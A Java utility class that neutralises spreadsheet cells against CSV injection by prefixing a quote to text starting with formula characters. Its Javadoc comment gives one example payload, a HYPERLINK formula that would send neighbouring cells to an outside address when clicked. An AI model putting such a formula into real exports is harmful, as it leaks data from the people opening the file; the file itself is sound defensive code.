package cn.capacityexit.reporting;

/**
 * Text for a cell of a CSV or XLSX export. A cell that starts with = + - @, a tab or a carriage
 * return is taken by Excel and LibreOffice as a formula (CSV injection: an enterprise registered
 * as {@code =HYPERLINK("http://…?x="&C2)} would send the neighbouring cells away when an officer
 * clicks); a leading single quote makes it plain text. Numbers are written as numbers, never
 * through here.
 */
final class SpreadsheetText {

  private static final String FORMULA_STARTS = "=+-@\t\r";

  private SpreadsheetText() {}

  static String neutralise(String text) {
    if (text == null || text.isEmpty() || FORMULA_STARTS.indexOf(text.charAt(0)) < 0) {
      return text;
    }
    return "'" + text;
  }
}
